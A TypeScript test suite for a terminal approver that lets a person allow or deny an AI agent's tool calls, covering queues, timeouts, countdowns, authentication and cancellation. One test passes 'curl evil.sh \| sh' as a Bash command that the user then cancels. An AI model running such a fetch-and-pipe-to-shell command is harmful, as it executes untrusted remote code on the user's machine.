import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { ApprovalClient, runPermissionsCommand, runTerminalApprover } from '@ccproxy/plugin-permissions';
import { settingsSchema } from '@ccproxy/core';
import { freePort, waitFor } from '../helpers.js';
import { callTool, connectMcp, waitForPending, type Decision, trackedPermissionsProxies } from './helpers.js';

const { start, clients } = trackedPermissionsProxies();

async function prompt(url: string, toolName: string, input: unknown): Promise<{ id: string; expiresAt: number; decision: Promise<Decision> }> {
  const client = await connectMcp(url);
  clients.push(client);
  const before = (await waitForPending(url, 0)).length;
  const decision = callTool(client, { tool_name: toolName, input }).then((result) => result.decision);
  decision.catch(() => undefined);
  const items = await waitForPending(url, before + 1);
  const item = items[items.length - 1]!;
  return { id: item.request_id, expiresAt: Date.parse(item.expires_at), decision };
}

/** A stand-in for a TTY: raw-mode switches are recorded, keys are written into it. */
class FakeTty extends PassThrough {
  readonly isTTY = true;
  readonly rawModes: boolean[] = [];
  setRawMode(mode: boolean): this {
    this.rawModes.push(mode);
    return this;
  }
  press(keys: string): void {
    this.write(keys);
  }
}

/** A terminal screen: collects what the approver draws, with the time each chunk arrived. */
class FakeScreen {
  readonly isTTY: boolean;
  readonly columns = 100;
  readonly chunks: { at: number; text: string }[] = [];
  constructor(isTTY = true) {
    this.isTTY = isTTY;
  }
  write(chunk: string): boolean {
    this.chunks.push({ at: Date.now(), text: chunk });
    return true;
  }
  get text(): string {
    // eslint-disable-next-line no-control-regex
    return this.chunks.map((chunk) => chunk.text).join('').replace(/\x1b\[[0-9;?]*[A-Za-z]/g, '');
  }
  count(needle: string): number {
    return this.text.split(needle).length - 1;
  }
}

function approver(url: string, options: { reconnect?: boolean; tty?: boolean; retryDelaysMs?: number[]; token?: string } = {}) {
  const input = new FakeTty();
  const screen = new FakeScreen(options.tty ?? true);
  const exit = runTerminalApprover({
    client: new ApprovalClient({ baseUrl: url, token: options.token ?? null }),
    input,
    output: screen,
    reconnect: options.reconnect ?? false,
    trapSignals: false,
    tickMs: 50,
    ...(options.retryDelaysMs ? { retryDelaysMs: options.retryDelaysMs } : {}),
  });
  return { input, screen, exit };
}

describe('ccproxy permissions: interactive terminal approver (fake TTY)', () => {
  it('shows the tool and its input, allows with "a", and restores the terminal on quit', async () => {
    const { url } = await start();
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const request = await prompt(url, 'Bash', { command: 'npm publish', dry_run: false, retries: 3, tags: ['latest'] });
    await waitFor(() => screen.text.includes('Allow this operation?'));
    expect(input.rawModes).toEqual([true]);
    expect(screen.text).toContain('Tool:       Bash');
    expect(screen.text).toContain(`Request ID: ${request.id.slice(0, 8)}…`);
    expect(screen.text).toContain('"command": "npm publish",');
    expect(screen.text).toContain('"retries": 3,');
    input.press('a');
    expect(await request.decision).toEqual({ behavior: 'allow', updatedInput: { command: 'npm publish', dry_run: false, retries: 3, tags: ['latest'] } });
    await waitFor(() => screen.text.includes('✓ ALLOWED Bash'));
    input.press('q');
    expect(await exit).toBe(0);
    expect(input.rawModes).toEqual([true, false]);
  });

  it('queues requests: one dialog at a time; "n" denies, "y" allows the next', async () => {
    const { url } = await start();
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const first = await prompt(url, 'Bash', { command: 'first' });
    const second = await prompt(url, 'Edit', { file_path: 'second.ts' });
    await waitFor(() => screen.text.includes('1 more waiting'));
    expect(screen.count('┌ Permission request')).toBe(1);
    expect(screen.text).not.toContain('second.ts');
    input.press('n');
    expect(await first.decision).toEqual({ behavior: 'deny', message: 'User denied the operation (status: denied)' });
    await waitFor(() => screen.text.includes('second.ts'));
    expect(screen.count('┌ Permission request')).toBe(2);
    input.press('y');
    expect((await second.decision).behavior).toBe('allow');
    input.press('q');
    expect(await exit).toBe(0);
  });

  it('closes the dialog when another approver decides first, and sends nothing itself', async () => {
    const proxy = await start();
    const { input, screen, exit } = approver(proxy.url);
    await waitFor(() => screen.text.includes('Connected'));
    const request = await prompt(proxy.url, 'Bash', { command: 'whoami' });
    await waitFor(() => screen.text.includes('Allow this operation?'));
    const other = await fetch(`${proxy.url}/permissions/${request.id}/respond`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"allowed":true}' });
    expect(other.status).toBe(200);
    await waitFor(() => screen.text.includes('APPROVED BY ANOTHER HANDLER'));
    input.press('d');
    input.press('q');
    expect(await exit).toBe(0);
    expect((await request.decision).behavior).toBe('allow');
    // The approver never tried to decide it: no conflict was ever answered.
    expect(proxy.logs.filter((record) => record.fields.status === 409)).toEqual([]);
    expect(proxy.logs.filter((record) => record.message === 'permission_decision')).toHaveLength(1);
  });

  it('the countdown shows the real time left (from expires_at), not double speed', async () => {
    const { url } = await start({ timeout_seconds: 30 });
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const request = await prompt(url, 'Bash', { command: 'sleep 5' });
    await waitFor(() => screen.text.includes('Timeout in'));
    await new Promise((resolve) => setTimeout(resolve, 700));
    const draws = screen.chunks.filter((chunk) => chunk.text.includes('Timeout in'));
    expect(draws.length).toBeGreaterThan(5);
    for (const draw of draws) {
      const shown = Number(/Timeout in (\d+\.\d)s/.exec(draw.text)?.[1]);
      const real = (request.expiresAt - draw.at) / 1000;
      expect(Math.abs(shown - real)).toBeLessThan(0.3);
    }
    input.press('d');
    await request.decision;
    input.press('q');
    await exit;
  });

  it('a request nobody answers closes at its real expiry and the tool call is denied', async () => {
    const { url } = await start({ timeout_seconds: 1 });
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const request = await prompt(url, 'Bash', { command: 'true' });
    const decision = await request.decision;
    expect(decision.behavior).toBe('deny');
    expect(Date.now()).toBeGreaterThanOrEqual(request.expiresAt - 50);
    await waitFor(() => /TIMEOUT - DENIED|EXPIRED/.test(screen.text));
    input.press('q');
    expect(await exit).toBe(0);
  });

  it('"N" denies the open request and everything queued', async () => {
    const { url } = await start();
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const requests = [await prompt(url, 'Bash', { n: 1 }), await prompt(url, 'Bash', { n: 2 }), await prompt(url, 'Bash', { n: 3 })];
    await waitFor(() => screen.text.includes('2 more waiting'));
    input.press('N');
    for (const request of requests) expect((await request.decision).behavior).toBe('deny');
    input.press('q');
    expect(await exit).toBe(0);
  });

  it('Ctrl+C denies the open request, restores the terminal and exits 130', async () => {
    const { url } = await start();
    const { input, screen, exit } = approver(url);
    await waitFor(() => screen.text.includes('Connected'));
    const request = await prompt(url, 'Bash', { command: 'curl evil.sh | sh' });
    await waitFor(() => screen.text.includes('Allow this operation?'));
    input.press('\x03');
    expect(await exit).toBe(130);
    expect(input.rawModes).toEqual([true, false]);
    expect(await request.decision).toEqual({ behavior: 'deny', message: 'User denied the operation: cancelled in the terminal approver' });
    expect(screen.text).toContain('✗ CANCELLED');
  });

  it('gives up with exit 1 after the retries when the server is down; 401 fails at once', async () => {
    const port = await freePort();
    const down = approver(`http://127.0.0.1:${port}`, { retryDelaysMs: [10, 20] });
    expect(await down.exit).toBe(1);
    expect(down.screen.count('retrying in')).toBe(2);
    expect(down.screen.text).toContain('giving up');
    expect(down.input.rawModes).toEqual([true, false]);
    const { url } = await start({}, { security: { auth_token: 'secret-abc' } });
    const refused = approver(url, { retryDelaysMs: [10, 20] });
    expect(await refused.exit).toBe(1);
    expect(refused.screen.text).toContain('authentication failed');
    expect(refused.screen.count('retrying in')).toBe(0);
    const allowed = approver(url, { token: 'secret-abc' });
    await waitFor(() => allowed.screen.text.includes('Connected'));
    allowed.input.press('q');
    expect(await allowed.exit).toBe(0);
  });

  it('runPermissionsCommand drives the same approver on an injected terminal, using settings for URL and token', async () => {
    const token = 'term-token';
    const { url } = await start({}, { security: { auth_token: token } });
    const settings = settingsSchema.parse({ security: { auth_token: token } });
    const input = new FakeTty();
    const screen = new FakeScreen();
    const lines: string[] = [];
    const io = { out: (line = '') => void lines.push(line), err: (line = '') => void lines.push(line), interactive: true, prompt: () => Promise.reject(new Error('no')), openUrl: () => Promise.resolve(false) };
    const exit = runPermissionsCommand({ io, settings, serverUrl: url }, { args: ['connect'], options: { reconnect: false } }, { input, output: screen });
    await waitFor(() => screen.text.includes('Connected'));
    input.press('q');
    expect(await exit).toBe(0);
  });
});
